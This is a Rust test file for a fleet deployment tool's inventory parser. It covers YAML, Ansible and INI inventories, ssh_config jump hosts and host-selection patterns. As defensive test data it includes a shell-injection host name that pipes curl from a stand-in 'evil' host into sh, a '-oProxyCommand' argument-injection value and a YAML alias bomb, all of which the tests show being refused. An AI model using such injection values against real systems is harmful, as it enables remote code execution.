use std::path::{Path, PathBuf};

use super::*;

fn context(home: Option<&Path>) -> LoadContext {
    LoadContext {
        home: home.map(Path::to_owned),
        local_user: "operator".into(),
    }
}

fn inventory(text: &str) -> Result<Inventory, InventoryError> {
    parse(
        text,
        Path::new("hosts.yaml"),
        Path::new("/etc/fleet"),
        &context(None),
    )
}

fn host<'a>(inventory: &'a Inventory, name: &str) -> &'a Host {
    inventory.hosts.iter().find(|h| h.name == name).unwrap()
}

const SPEC_EXAMPLE: &str = "\
defaults:            # applies to every host unless overridden
  user: root
  port: 22
hosts:
  web1: { address: 192.0.2.11 }
  web2: { address: 192.0.2.12, port: 2222, user: deploy, become: true }
  db1:  { address: 192.0.2.21, busy_check: \"pgrep -x pg_dump\" }
groups:
  web: [web1, web2]
  db:  { hosts: [db1], busy_retries: 20 }
";

#[test]
fn reads_the_spec_example() {
    let inv = inventory(SPEC_EXAMPLE).unwrap();
    let names: Vec<&str> = inv.hosts.iter().map(|h| h.name.as_str()).collect();
    assert_eq!(names, ["web1", "web2", "db1"]);
    let web2 = host(&inv, "web2");
    assert_eq!(
        (
            web2.address.as_str(),
            web2.port,
            web2.user.as_str(),
            web2.become_root
        ),
        ("192.0.2.12", 2222, "deploy", true)
    );
    assert_eq!(web2.groups, ["web"]);
    let db1 = host(&inv, "db1");
    assert_eq!(db1.busy_retries, Some(20));
    assert_eq!(db1.busy_check.as_deref(), Some("pgrep -x pg_dump"));
    assert_eq!(db1.user, "root");
    assert_eq!(db1.keep_releases, 3);
    assert_eq!(db1.paths, ClientPaths::default());
    assert_eq!(inv.groups, ["web", "db"]);
}

#[test]
fn precedence_is_host_then_later_group_then_defaults() {
    let inv = inventory(
        "defaults: {port: 1, user: d, busy_wait: 1, keep_releases: 1}\n\
         hosts:\n  a: {port: 4}\n  b:\n\
         groups:\n  g1: {hosts: [a, b], port: 2, user: g1, busy_wait: 2}\n  g2: {hosts: [a, b], port: 3}\n",
    )
    .unwrap();
    let (a, b) = (host(&inv, "a"), host(&inv, "b"));
    assert_eq!(a.port, 4, "host wins");
    assert_eq!(b.port, 3, "later group wins over earlier group");
    assert_eq!(b.user, "g1", "group wins over defaults");
    assert_eq!(b.busy_wait, Some(2));
    assert_eq!(b.keep_releases, 1, "defaults apply where nothing else says");
    assert_eq!(b.address, "b", "address defaults to the name");
}

#[test]
fn built_in_defaults_and_paths() {
    let inv = inventory(
        "hosts:\n  a: {identity_file: keys/a, prefix: /srv/swpush, known_servers: /etc/k}\n",
    )
    .unwrap();
    let a = host(&inv, "a");
    assert_eq!((a.port, a.user.as_str()), (22, "operator"));
    assert_eq!(a.identity_file, Some(PathBuf::from("/etc/fleet/keys/a")));
    assert_eq!(a.paths.prefix, "/srv/swpush");
    assert_eq!(a.paths.known_servers, "/etc/k");
    assert_eq!(a.paths.state_dir, "/var/lib/swpush");
}

#[test]
fn every_mistake_is_one_located_line() {
    let table = [
        (
            "hosts:\n  web1: {adress: x}\n",
            "hosts.yaml:2:10: unknown field `adress`, expected one of",
        ),
        (
            "hosts:\n  web1: {port: 70000}\n",
            "hosts.yaml:2:16: `port`: expected a whole number from 0 to 65535",
        ),
        (
            "hosts:\n  web1: {port: ssh}\n",
            "hosts.yaml:2:16: `port`: expected a whole number from 0 to 65535",
        ),
        (
            "hosts:\n  web1: {become: maybe}\n",
            "hosts.yaml:2:18: `become`: expected true or false",
        ),
        (
            "hosts:\n  web1: {}\n  web1: {}\n",
            "hosts.yaml:3:3: `web1` appears twice",
        ),
        (
            "hosts:\n  web1: {}\ngroups:\n  web: [web1, web9]\n",
            "hosts.yaml:4:15: group `web` names unknown host `web9`",
        ),
        (
            "hosts:\n  web1: {}\ngroups:\n  web: {hosts: [web2]}\n",
            "hosts.yaml:4:17: group `web` names unknown host `web2`",
        ),
        (
            "hosts:\n  web1: {}\ngroups:\n  web1: [web1]\n",
            "hosts.yaml:4:3: group `web1` has the name of a host",
        ),
        (
            "hosts:\n  web1: {address: [x\n",
            "hosts.yaml:2:19: unclosed bracket '['",
        ),
        (
            "hosts:\n  web1: {}\nhostz: {}\n",
            "hosts.yaml:3:1: unknown field `hostz`, expected one of defaults, hosts, groups",
        ),
        (
            "defaults: {address: x}\nhosts:\n  a: {}\n",
            "hosts.yaml:1:21: `address` belongs on a host",
        ),
        (
            "hosts:\n  a: {hosts: [a]}\n",
            "hosts.yaml:2:14: `hosts` belongs in a group",
        ),
        (
            "hosts:\n  a: {keep_releases: 0}\n",
            "hosts.yaml:2:22: `keep_releases` must be at least 1",
        ),
        (
            "hosts:\n  a: {prefix: opt}\n",
            "hosts.yaml:2:15: `prefix` must be an absolute path",
        ),
        (
            "hosts:\n  a: {state_dir: /var/../x}\n",
            "hosts.yaml:2:18: `state_dir` must be an absolute path",
        ),
        (
            "hosts:\n  'web*': {}\n",
            "hosts.yaml:2:3: host name `web*` may not",
        ),
        (
            "hosts:\n  a: {address: \"-oProxyCommand=x\"}\n",
            "hosts.yaml:2:16: `address` must be non-empty",
        ),
        (
            "hosts:\n  a: {user: \"root\\nx\"}\n",
            "hosts.yaml:2:13: `user` must be non-empty",
        ),
        (
            "hosts:\n  a: {port: 0}\n",
            "hosts.yaml:2:13: `port` must be from 1 to 65535",
        ),
        ("hosts:\n  all: {}\n", "hosts.yaml:2:3: `all` is reserved"),
        ("hosts: {}\n", "hosts.yaml: the inventory lists no hosts"),
        ("", "hosts.yaml: the inventory is empty"),
        (
            "groups:\n  web: []\n",
            "hosts.yaml: the inventory lists no hosts",
        ),
        ("- web1\n", "hosts.yaml:1:1: "),
        (
            "hosts:\n  web1: {health_check: \"a\\nb\"}\n",
            "hosts.yaml:2:24: `health_check` must be one line, without control characters",
        ),
        (
            "hosts:\n  web1: {confirm_timeout: 9000}\n",
            "hosts.yaml:2:27: `confirm_timeout` must be from 0 to 3600 seconds, got 9000",
        ),
    ];
    for (text, expected) in table {
        let error = inventory(text).unwrap_err().to_string();
        assert!(
            error.starts_with(expected),
            "{text:?}\n got: {error}\nwant: {expected}"
        );
        assert!(!error.contains('\n'), "one line: {error}");
    }
}

#[test]
fn file_errors_name_the_file() {
    let missing = load(Path::new("/nonexistent/hosts.yaml"), &context(None)).unwrap_err();
    assert_eq!(
        missing.to_string(),
        "/nonexistent/hosts.yaml: no such file (for a list of hosts, end it with a comma: `-i 'HOST,'`)"
    );
    let dir = load(Path::new("/"), &context(None)).unwrap_err();
    assert_eq!(dir.to_string(), "/: is a directory, not an inventory file");
}

#[test]
fn alias_bombs_are_refused_not_expanded() {
    let mut text = String::from("x0: &x0 [a,a,a,a,a,a,a,a,a,a]\n");
    for i in 1..9 {
        text.push_str(&format!(
            "x{i}: &x{i} [{}]\n",
            vec![format!("*x{}", i - 1); 10].join(",")
        ));
    }
    text.push_str("hosts:\n  a: {}\n");
    let error = inventory(&text).unwrap_err().to_string();
    assert!(error.starts_with("hosts.yaml"), "{error}");
}

const ANSIBLE: &str = "\
all:
  vars:
    ansible_user: admin
    http_port: 80            # playbook data: ignored
    ntp: [a, b]
  hosts:
    lone: { ansible_host: 192.0.2.5 }
  children:
    web:
      vars: { ansible_port: 2222, ansible_become: yes }
      hosts:
        web1: { ansible_host: 192.0.2.11 }
        web2:
          ansible_host: 192.0.2.12
          ansible_port: \"2200\"
          ansible_ssh_private_key_file: ~/.ssh/web
      children:
        canary:
          vars: { ansible_user: canary, busy_retries: 2 }
          hosts:
            web1:
    db:
      hosts:
        db1: { ansible_host: 192.0.2.21, ansible_user: postgres, busy_check: pgrep pg_dump }
";

/// The inventory sets or overrides the package's health check per host
/// or group (native and Ansible alike); `""` turns it off.
#[test]
fn health_settings_layer_like_the_rest() {
    let native = "defaults:\n  health_timeout: 60\nhosts:\n  web1: {}\n  web2: {health_check: \"\", confirm_timeout: 0}\n\
                  groups:\n  web: {hosts: [web1], health_check: \"curl -fsS localhost/health\"}\n";
    let inv = inventory(native).unwrap();
    let web1 = host(&inv, "web1");
    assert_eq!(
        web1.health.check.as_deref(),
        Some("curl -fsS localhost/health")
    );
    assert_eq!(
        (web1.health.timeout, web1.confirm_timeout),
        (Some(60), None)
    );
    let web2 = host(&inv, "web2");
    assert_eq!(web2.health.check.as_deref(), Some(""));
    assert_eq!(web2.confirm_timeout, Some(0));
    let ansible = "all:\n  vars: {health_interval: 5}\n  hosts:\n    a: {health_check: ./check, confirm_timeout: 90}\n";
    let inv = parse(
        ansible,
        Path::new("inv.yml"),
        Path::new("/"),
        &context(None),
    )
    .unwrap();
    let a = host(&inv, "a");
    assert_eq!(a.health.check.as_deref(), Some("./check"));
    assert_eq!((a.health.interval, a.confirm_timeout), (Some(5), Some(90)));
}

#[test]
fn reads_an_ansible_inventory() {
    let inv = parse(
        ANSIBLE,
        Path::new("inv.yml"),
        Path::new("/x"),
        &context(Some(Path::new("/home/op"))),
    )
    .unwrap();
    let names: Vec<&str> = inv.hosts.iter().map(|h| h.name.as_str()).collect();
    assert_eq!(names, ["lone", "web1", "web2", "db1"]);
    let web1 = host(&inv, "web1");
    assert_eq!(web1.user, "canary", "the deeper group wins");
    assert_eq!(
        (web1.port, web1.become_root, web1.busy_retries),
        (2222, true, Some(2))
    );
    assert_eq!(web1.groups, ["web", "canary"]);
    let web2 = host(&inv, "web2");
    assert_eq!(
        (web2.address.as_str(), web2.port, web2.user.as_str()),
        ("192.0.2.12", 2200, "admin")
    );
    assert_eq!(web2.identity_file, Some(PathBuf::from("/home/op/.ssh/web")));
    let db1 = host(&inv, "db1");
    assert_eq!(
        (db1.user.as_str(), db1.port, db1.become_root),
        ("postgres", 22, false)
    );
    assert_eq!(db1.busy_check.as_deref(), Some("pgrep pg_dump"));
    assert_eq!(host(&inv, "lone").user, "admin");
    assert_eq!(inv.groups, ["web", "canary", "db"]);
}

#[test]
fn ansible_mistakes_are_located() {
    let table = [
        (
            "all:\n  hosts:\n    a: {ansible_port: ssh}\n",
            "inv.yml:3:23: `ansible_port`: expected a whole number",
        ),
        (
            "all:\n  hosts:\n    a: {ansible_become: perhaps}\n",
            "inv.yml:3:25: `ansible_become`: expected true or false",
        ),
        (
            "all:\n  hostz: {}\n",
            "inv.yml:2:3: unknown field `hostz`, expected one of hosts, vars, children",
        ),
        (
            "all:\n  children:\n    a:\n      hosts: {x: }\n  hosts:\n    a:\n",
            "inv.yml:3:5: group `a` has the name of a host",
        ),
        (
            "all:\n  hosts:\n    a: {keep_releases: 0}\n",
            "inv.yml:3:24: `keep_releases` must be at least 1",
        ),
        (
            "all:\n  hosts:\n    a: {health_interval: 0}\n",
            "inv.yml:3:26: `health_interval` must be from 1 to 3600 seconds, got 0",
        ),
        (
            "all:\n  hosts: {}\n",
            "inv.yml: the inventory lists no hosts",
        ),
        (
            "all:\n  children:\n    a:\n      children: {b: }\n    b:\n      hosts: {x: }\n      children: {a: }\n",
            "inv.yml:3:5: group `a` contains itself (through its children: a → b → a)",
        ),
        (
            "all:\n  children:\n    a:\n      hosts: {x: }\n      children: {all: }\n",
            "inv.yml:5:18: `all` holds every group",
        ),
        (
            "all:\n  children:\n    a:\n      hosts: {x: }\n      children: {a: }\n",
            "inv.yml:3:5: group `a` contains itself",
        ),
        (
            "all:\n  children:\n    a:\n      hosts: {x: }\n      vars: {ansible_group_priority: high}\n",
            "inv.yml:5:38: `ansible_group_priority`: expected a whole number",
        ),
    ];
    for (text, expected) in table {
        let error = parse(text, Path::new("inv.yml"), Path::new("/"), &context(None))
            .unwrap_err()
            .to_string();
        assert!(
            error.starts_with(expected),
            "{text:?}\n got: {error}\nwant: {expected}"
        );
    }
}

#[test]
fn ssh_config_fills_only_what_the_inventory_leaves_unset() {
    let home = std::env::temp_dir().join(format!("swpush-inv-ssh-{}", std::process::id()));
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(
        home.join(".ssh/config"),
        "Host web1\n  HostName 10.0.0.1\n  User deploy\n  Port 2022\n  IdentityFile ~/.ssh/deploy\n  ProxyJump bastion.example\n\nHost db*\n  User dba\n",
    )
    .unwrap();
    let inv = parse(
        "defaults: {port: 2200}\nhosts:\n  web1: {}\n  web2: {}\n  db1: {user: root}\n  db2: {}\n",
        Path::new("hosts.yaml"),
        Path::new("/"),
        &context(Some(&home)),
    )
    .unwrap();
    let web1 = host(&inv, "web1");
    assert_eq!(web1.address, "10.0.0.1");
    assert_eq!(web1.user, "deploy");
    assert_eq!(web1.port, 2200, "inventory defaults win over ~/.ssh/config");
    assert_eq!(web1.identity_file, Some(home.join(".ssh/deploy")));
    assert_eq!(web1.proxy_jump.as_deref(), Some("bastion.example"));
    assert_eq!(host(&inv, "web2").user, "operator");
    assert_eq!(host(&inv, "db1").user, "root");
    assert_eq!(host(&inv, "db2").user, "dba");
    std::fs::remove_dir_all(home).unwrap();
}

mod limit {
    use super::*;

    fn fleet() -> Inventory {
        inventory(
            "hosts:\n  web1: {}\n  web2: {}\n  web10: {}\n  db1: {}\n  db2: {}\n  cache: {}\n\
             groups:\n  web: [web1, web2, web10]\n  db: [db1, db2]\n  prod: [web1, db1]\n  empty: []\n",
        )
        .unwrap()
    }

    fn names(limit: Option<&str>) -> Result<Vec<String>, select::SelectError> {
        let inv = fleet();
        select_hosts(&inv, limit).map(|hosts| hosts.iter().map(|h| h.name.clone()).collect())
    }

    #[test]
    fn selects() {
        let table: [(Option<&str>, &[&str]); 27] = [
            (None, &["web1", "web2", "web10", "db1", "db2", "cache"]),
            (Some(""), &["web1", "web2", "web10", "db1", "db2", "cache"]),
            (
                Some("all"),
                &["web1", "web2", "web10", "db1", "db2", "cache"],
            ),
            (Some("web1"), &["web1"]),
            (Some("web"), &["web1", "web2", "web10"]),
            (Some("db,cache"), &["db1", "db2", "cache"]),
            (Some("web*"), &["web1", "web2", "web10"]),
            (Some("web?"), &["web1", "web2"]),
            (Some("web,!web2"), &["web1", "web10"]),
            (Some("!db"), &["web1", "web2", "web10", "cache"]),
            (Some("all,!prod,!cache"), &["web2", "web10", "db2"]),
            (Some(" db1 , web2 ,"), &["web2", "db1"]),
            (Some("web:&prod"), &["web1"]),
            (Some("&prod,web"), &["web1"]),
            (Some("!web2,web"), &["web1", "web10"]),
            (Some("&prod"), &["web1", "db1"]),
            (Some("web:db:!prod"), &["web2", "web10", "db2"]),
            (Some("~web\\d$"), &["web1", "web2"]),
            (Some("~db"), &["db1", "db2"]),
            (Some("web[0]"), &["web1"]),
            (Some("web[-1]"), &["web10"]),
            (Some("web[1:]"), &["web2", "web10"]),
            (Some("web[0:1]"), &["web1", "web2"]),
            (Some("web[1:0]"), &["web2"]),
            (Some("ungrouped"), &["cache"]),
            (
                Some("*,!ungrouped"),
                &["web1", "web2", "web10", "db1", "db2"],
            ),
            (Some("web[1:3]:db"), &["web2", "web10", "db1", "db2"]),
        ];
        for (limit, expected) in table {
            assert_eq!(names(limit).unwrap(), expected, "{limit:?}");
        }
    }

    #[test]
    fn limit_files() {
        let dir = std::env::temp_dir().join(format!("swpush-limit-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let retry = dir.join("site.retry");
        std::fs::write(&retry, "db2\n\n web2 \n").unwrap();
        let limit = format!("@{},cache", retry.display());
        assert_eq!(names(Some(&limit)).unwrap(), ["web2", "db2", "cache"]);
        std::fs::write(&retry, "db9\n").unwrap();
        let limit = format!("@{}", retry.display());
        assert_eq!(
            names(Some(&limit)),
            Err(select::SelectError::NoMatch("db9".into()))
        );
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn splits_like_ansible() {
        let table: [(&str, &[&str]); 9] = [
            ("a,b:c", &["a", "b:c"]),
            ("a:b", &["a", "b"]),
            ("a:&b:!c", &["a", "&b", "!c"]),
            ("::1", &["::1"]),
            ("fe80::1:2", &["fe80::1:2"]),
            ("[::1]:2222", &["[::1]:2222"]),
            ("host:22", &["host:22"]),
            ("web[01:20]", &["web[01:20]"]),
            ("web*:db[0:1]", &["web*", "db[0:1]"]),
        ];
        for (text, expected) in table {
            assert_eq!(select::split_host_pattern(text), expected, "{text}");
        }
    }

    #[test]
    fn refuses() {
        use select::SelectError::*;
        let table = [
            ("web9", NoMatch("web9".into())),
            ("web,!db9", NoMatch("!db9".into())),
            ("x*", NoMatch("x*".into())),
            (
                "web,!web",
                Empty {
                    pattern: "web,!web".into(),
                },
            ),
            (
                "empty",
                Empty {
                    pattern: "empty".into(),
                },
            ),
        ];
        for (limit, error) in table {
            assert_eq!(names(Some(limit)), Err(error), "{limit}");
        }
        // `hosts` and `status` keep no run records: nothing to re-run.
        assert!(matches!(names(Some("@failed")), Err(Failed(..))));
        assert!(matches!(names(Some("web[,db")), Err(BadPattern(..))));
        assert!(matches!(names(Some("~(")), Err(BadPattern(..))));
        assert!(matches!(names(Some("web[5]")), Err(Subscript(..))));
        assert!(matches!(names(Some("web[0-1]")), Err(BadPattern(..))));
        assert!(matches!(names(Some("@/nonexistent/retry")), Err(File(..))));
        assert_eq!(names(Some("&web9")), Err(NoMatch("&web9".into())));
        assert_eq!(names(Some("~zz")), Err(NoMatch("~zz".into())));
        assert!(matches!(names(Some("!")), Err(BadPattern(..))));
    }

    /// `@failed`: the hosts that did not succeed in the newest record of
    /// the same command and package, combined as any other pattern.
    #[test]
    fn failed_hosts_of_the_last_run() {
        use crate::order::Op;
        use crate::outcome::{Outcome, Status};
        use crate::report::{HostReport, PackageInfo, RunReport, record};
        use select::{Rerun, SelectError};

        let root = std::env::temp_dir().join(format!("swpush-failed-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        let keep = |op: Op, name: &str, started: &str, hosts: &[(&str, Status)]| {
            let report = RunReport {
                op,
                package: Some(PackageInfo {
                    name: name.into(),
                    version: None,
                    sha256: None,
                }),
                started: started.into(),
                finished: started.into(),
                dry_run: false,
                hosts: hosts
                    .iter()
                    .map(|(h, s)| HostReport::new(*h, "192.0.2.1", Outcome::status(*s, "")))
                    .collect(),
            };
            record::save_run_record(&report, &root).unwrap();
        };
        let inv = fleet();
        let select = |op: Op, name: &str, limit: &str| {
            let rerun = Rerun {
                op,
                name: Some(name),
                state_home: Some(&root),
            };
            select::select_hosts_rerunning(&inv, Some(limit), Some(&rerun))
                .map(|hosts| hosts.iter().map(|h| h.name.clone()).collect::<Vec<_>>())
        };
        let error = |result: Result<Vec<String>, select::SelectError>| match result {
            Err(SelectError::Failed(why)) => why,
            other => panic!("{other:?}"),
        };
        // No run of it is recorded.
        let why = error(select(Op::Upgrade, "hello", "@failed"));
        assert!(
            why.starts_with("no run of `upgrade hello` is recorded under "),
            "{why}"
        );

        use Status::*;
        keep(
            Op::Upgrade,
            "hello",
            "2026-11-24T10:00:00Z",
            &[("cache", Failed)],
        );
        keep(
            Op::Upgrade,
            "hello",
            "2026-11-25T10:00:00Z",
            &[
                ("web1", Upgraded),
                ("web2", Busy),
                ("web10", Skipped),
                ("db1", Unreachable),
                ("db2", NotAttempted),
                ("cache", Unchanged),
            ],
        );
        keep(
            Op::Install,
            "hello",
            "2026-11-26T10:00:00Z",
            &[("web1", Failed)],
        );
        keep(
            Op::Upgrade,
            "other",
            "2026-11-26T10:00:00Z",
            &[("web1", Failed)],
        );
        // Skipped succeeded enough; not-attempted did not. Inventory order.
        let failed = ["web2", "db1", "db2"].map(String::from);
        assert_eq!(select(Op::Upgrade, "hello", "@failed").unwrap(), failed);
        assert_eq!(
            select(Op::Upgrade, "hello", "@failed:&db").unwrap(),
            ["db1", "db2"]
        );
        assert_eq!(
            select(Op::Upgrade, "hello", "@failed,!db2").unwrap(),
            ["web2", "db1"]
        );
        assert_eq!(
            select(Op::Upgrade, "hello", "cache,@failed").unwrap(),
            ["web2", "db1", "db2", "cache"]
        );
        assert_eq!(select(Op::Install, "hello", "@failed").unwrap(), ["web1"]);
        // Nothing failed in the newest run: nothing to re-run.
        keep(
            Op::Remove,
            "hello",
            "2026-11-26T10:00:00Z",
            &[("web1", Removed)],
        );
        let why = error(select(Op::Remove, "hello", "@failed"));
        assert_eq!(
            why,
            "every host succeeded in the last `remove hello` of 2026-11-26T10:00:00Z: nothing to re-run"
        );
        // A host that did not succeed is not dropped unsaid.
        keep(
            Op::Rollback,
            "hello",
            "2026-11-26T10:00:00Z",
            &[("gone", Failed)],
        );
        let why = error(select(Op::Rollback, "hello", "@failed"));
        assert_eq!(
            why,
            "gone did not succeed in the last `rollback hello` of 2026-11-26T10:00:00Z, and is not in the inventory"
        );
        // No state home: no run records.
        let rerun = Rerun {
            op: Op::Upgrade,
            name: Some("hello"),
            state_home: None,
        };
        assert!(matches!(
            select::select_hosts_rerunning(&inv, Some("@failed"), Some(&rerun)),
            Err(SelectError::Failed(..))
        ));
        assert!(select::uses_failed(Some("web,@failed")));
        assert!(!select::uses_failed(Some("@./failed")));
        std::fs::remove_dir_all(&root).unwrap();
    }
}

/// Mangled inventories (bytes flipped, cut, duplicated) give errors, never panics.
#[test]
fn no_input_panics() {
    let seeds = [
        SPEC_EXAMPLE,
        ANSIBLE,
        INI,
        "hosts:\n  ü: {port: ß}\n  é: {user: \"ñ\"}\n",
    ];
    let mut state = 0x2545_f491_4f6c_dd1du64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    for seed in seeds {
        for _ in 0..400 {
            let mut bytes = seed.as_bytes().to_vec();
            for _ in 0..(next() % 4 + 1) {
                let at = (next() as usize) % bytes.len();
                match next() % 3 {
                    0 => bytes[at] = b"{}[]:,&*!|>'\"\n -#"[(next() % 17) as usize],
                    1 => bytes.truncate(at.max(1)),
                    _ => bytes.insert(at, bytes[at]),
                }
            }
            let text = String::from_utf8_lossy(&bytes);
            let _ = inventory(&text);
        }
    }
}

/// `-i 'a,b'`: Ansible's inline host list.
#[test]
fn inline_host_lists() {
    let load_list = |list: &str| load(Path::new(list), &context(None));
    let hosts = load_list("web3,").unwrap().hosts;
    assert_eq!(
        (
            hosts.len(),
            &*hosts[0].name,
            &*hosts[0].address,
            hosts[0].port
        ),
        (1, "web3", "web3", 22)
    );
    let hosts = load_list(" deploy@web4:2222 , db1:2200,[::1]:2201,fe80::7,ops@[::2]")
        .unwrap()
        .hosts;
    let got: Vec<(&str, &str, u16, &str)> = hosts
        .iter()
        .map(|h| (&*h.name, &*h.address, h.port, &*h.user))
        .collect();
    assert_eq!(
        got,
        [
            ("web4", "web4", 2222, "deploy"),
            ("db1", "db1", 2200, "operator"),
            ("::1", "::1", 2201, "operator"),
            ("fe80::7", "fe80::7", 22, "operator"),
            ("::2", "::2", 22, "ops"),
        ]
    );
    assert!(hosts.iter().all(|h| h.groups.is_empty()));
    for (list, fragment) in [
        ("web:x,", "the port is not a number"),
        ("web:0,", "the port is not a number"),
        ("web::22,", "[ADDRESS]:PORT"),
        ("@web,", "the user before `@`"),
        ("a b,", "a space"),
        ("-oProxyCommand=x,", "expected NAME"),
        ("web,web,", "twice"),
        (",,", "names no host"),
        ("[::1,", "without its `]`"),
    ] {
        let error = load_list(list).unwrap_err().to_string();
        assert!(error.contains(fragment), "{list}: {error}");
        assert!(!error.contains('\n'), "{list}: {error}");
    }
}

const INI: &str = "lonely ansible_host=192.0.2.9\n[web]\nweb[01:03] ansible_port=2201\n\
web10:2210 ansible_user=\"deploy\"\n[prod:children]\nweb\n[prod:vars]\nansible_user=prod\n";

/// Ansible's INI inventories: sections, ranges, quotes, group vars.
#[test]
fn ini_inventories() {
    let inv = inventory(INI).unwrap();
    let got: Vec<(&str, &str, u16, &str)> = inv
        .hosts
        .iter()
        .map(|h| (&*h.name, &*h.address, h.port, &*h.user))
        .collect();
    assert_eq!(
        got,
        [
            ("lonely", "192.0.2.9", 22, "operator"),
            ("web01", "web01", 2201, "prod"),
            ("web02", "web02", 2201, "prod"),
            ("web03", "web03", 2201, "prod"),
            ("web10", "web10", 2210, "deploy"),
        ]
    );
    assert_eq!(
        ini::expand_range("db-[a:c]x[1:5:2]").unwrap().len(),
        9,
        "letters and steps"
    );
    for (text, location, fragment) in [
        ("[web]\n[db\n", "hosts.yaml:2", "ends with `]`"),
        (
            "[web:vaars]\nweb1\n",
            "hosts.yaml:1",
            "unknown section type",
        ),
        ("[web]\nweb1 port\n", "hosts.yaml:2", "key=value"),
        ("[web]\nweb1 a=\"x\n", "hosts.yaml:2", "unclosed"),
        ("[web]\nweb[3:1]\n", "hosts.yaml:2", "a range"),
        ("[web]\nweb[1:a]\n", "hosts.yaml:2", "a range"),
        ("[web:vars]\njust words\n", "hosts.yaml:2", "key=value"),
        (
            "[web]\nweb1\n\n\nweb2 ansible_port=x\n",
            "hosts.yaml:5",
            "port",
        ),
    ] {
        let error = inventory(text).unwrap_err();
        assert_eq!(error.location, location, "{text:?}: {error}");
        assert!(error.message.contains(fragment), "{text:?}: {error}");
    }
}

/// Executable inventories: their `--list` JSON, or one clear error line.
#[test]
fn executable_inventories() {
    use std::os::unix::fs::PermissionsExt;
    let dir = std::env::temp_dir().join(format!("swpush-script-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let script = dir.join("inventory.sh");
    let load_script = |body: &str| {
        std::fs::write(&script, format!("#!/bin/sh\n{body}\n")).unwrap();
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
        load(&script, &context(None))
    };
    let inv = load_script(
        r#"[ "$1" = --list ] || exit 9
echo '{"_meta": {"hostvars": {"web1": {"ansible_port": 2222}}}, "web": {"hosts": ["web1", "web2"], "vars": {"ansible_user": "w"}}}'"#,
    )
    .unwrap();
    let got: Vec<(&str, u16, &str)> = inv
        .hosts
        .iter()
        .map(|h| (&*h.name, h.port, &*h.user))
        .collect();
    assert_eq!(got, [("web1", 2222, "w"), ("web2", 22, "w")]);
    for (body, fragment) in [
        ("echo oops >&2; exit 3", "failed (exit status: 3): oops"),
        ("echo 'web1 ansible_port=1'", "did not print a JSON object"),
        ("echo '{\"web\": 5}'", "group `web` is not an object"),
    ] {
        let error = load_script(body).unwrap_err().to_string();
        assert!(error.contains(fragment), "{body}: {error}");
        assert!(!error.contains('\n'), "{body}: {error}");
    }
    std::fs::remove_dir_all(&dir).unwrap();
}

/// `ssh -J gw,inner:23 target`: each hop resolved as `ssh HOP` would be;
/// the first hop's own ProxyJump applies, a later hop's does not; a bad
/// hop refuses the target naming it.
#[test]
fn jump_hosts_resolve_through_ssh_config_as_ssh_resolves_them() {
    use crate::inventory::Proxy;
    let home = std::env::temp_dir().join(format!("swpush-inv-jump-{}", std::process::id()));
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(
        home.join(".ssh/config"),
        "Host gw\n  HostName 10.0.0.1\n  User ops\n  Port 2200\n  ProxyJump outer\n\
         Host inner\n  HostName 10.0.0.2\n  User jumper\n  Port 2201\n  ProxyJump never\n\
         Host outer\n  HostName 10.0.0.3\n\
         Host loop\n  ProxyJump loop\n\
         Host piped\n  ProxyCommand ssh -W %h:%p -l %r gw # %n %%\n  HostName 10.0.0.9\n  User pu\n\
         Host shouting\n  ProxyCommand NONE\n\
         Host *.internal\n  ProxyCommand ssh gw -W %h:%p\n\
         Host db-proxy\n  HostName 10.9.9.9\n",
    )
    .unwrap();
    let inv = parse(
        "hosts:\n  t: {proxy_jump: \"gw,inner:23\"}\n  l: {proxy_jump: loop}\n  \
         piped: {}\n  bad: {proxy_jump: \"gw,,x\"}\n  later: {proxy_jump: \"outer,loop\"}\n  \
         shouting: {}\n  \"x;curl${IFS}evil|sh;.internal\": {}\n",
        Path::new("hosts.yaml"),
        Path::new("/"),
        &context(Some(&home)),
    )
    .unwrap();
    let t = host(&inv, "t");
    let Proxy::Jump(hops) = &t.proxy else {
        panic!("{:?}", t.proxy)
    };
    let summary: Vec<_> = hops
        .iter()
        .map(|h| (h.name.as_str(), h.address.as_str(), h.user.as_str(), h.port))
        .collect();
    assert_eq!(
        summary,
        [
            ("gw", "10.0.0.1", "ops", 2200),
            ("inner", "10.0.0.2", "jumper", 23)
        ]
    );
    let Proxy::Jump(outer) = &hops[0].proxy else {
        panic!("gw's own ProxyJump: {:?}", hops[0].proxy)
    };
    assert_eq!(outer[0].address, "10.0.0.3");
    assert_eq!(
        hops[1].proxy,
        Proxy::Direct,
        "the chain overrides inner's ProxyJump"
    );
    assert_eq!(t.via().as_deref(), Some("gw,inner:23"));
    let l = host(&inv, "l").refused.clone().unwrap_or_default();
    assert!(l.contains("more than") && l.contains("loop"), "{l}");
    let piped = host(&inv, "piped");
    assert_eq!(
        piped.proxy,
        Proxy::Command("ssh -W 10.0.0.9:22 -l pu gw # piped %".into())
    );
    let bad = host(&inv, "bad").refused.clone().unwrap_or_default();
    assert!(
        bad.contains("ProxyJump gw,,x") && bad.contains("empty hop"),
        "{bad}"
    );
    // A later hop's own ProxyJump is never read (`ssh -J a b` gives b
    // `-J none`), so loop's ProxyJump loop does not refuse the target.
    let later = host(&inv, "later");
    assert_eq!(later.refused, None);
    let Proxy::Jump(hops) = &later.proxy else {
        panic!("{:?}", later.proxy)
    };
    assert_eq!(hops[1].proxy, Proxy::Direct);
    // ssh runs a ProxyCommand `NONE`: only `none` means direct.
    assert_eq!(host(&inv, "shouting").proxy, Proxy::Command("NONE".into()));
    // A name a shell would read as a command is not put into one.
    let hostile = host(&inv, "x;curl${IFS}evil|sh;.internal");
    assert!(
        hostile
            .refused
            .as_deref()
            .is_some_and(|r| r.contains("a shell would interpret")),
        "{hostile:?}"
    );
    // In an Ansible inventory `ansible_host` is the name ssh is given, so
    // its HostName is where ssh connects.
    let ansible = parse(
        "all:\n  hosts:\n    web1: {ansible_host: db-proxy}\n",
        Path::new("hosts.yml"),
        Path::new("/"),
        &context(Some(&home)),
    )
    .unwrap();
    assert_eq!(host(&ansible, "web1").address, "10.9.9.9");
    std::fs::remove_dir_all(home).unwrap();
}
